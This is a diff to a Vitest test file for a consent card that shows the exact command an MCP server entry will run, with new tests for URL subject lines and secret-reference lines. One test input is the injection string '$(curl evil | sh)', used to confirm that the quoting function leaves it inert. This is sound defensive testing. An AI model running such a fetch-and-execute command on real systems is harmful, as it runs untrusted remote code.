@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { commandLine, quoteArg } from './consent-text';
+import { commandLine, quoteArg, referenceLines, subjectLine } from './consent-text';
 
 describe('the consent card\'s command line', () => {
   it('quotes only what a shell would split or expand, so the line is exactly what runs', () => {
@@ -10,5 +10,14 @@ describe('the consent card\'s command line', () => {
     expect(quoteArg("it's")).toBe("'it'\\''s'");
     expect(quoteArg('$(curl evil | sh)')).toBe("'$(curl evil | sh)'");
     expect(commandLine({ command: 'npx', args: ['-y', 'some server', ''] })).toBe("npx -y 'some server' ''");
+  });
+});
+
+describe('the consent card\'s other lines', () => {
+  it('shows a remote entry by its URL and references by name only', () => {
+    expect(subjectLine({ url: 'https://mcp.example.com/mcp' })).toBe('https://mcp.example.com/mcp');
+    expect(subjectLine({ command: 'node', args: ['s.js'], cwd: null, env: [] })).toBe('node s.js');
+    expect(referenceLines({ Authorization: ['${secret:github.TOKEN}'], X: ['${env:A}', '${input:b}'] })).toEqual(['Authorization ← ${secret:github.TOKEN}', 'X ← ${env:A} ${input:b}']);
+    expect(referenceLines(undefined)).toEqual([]);
   });
 });
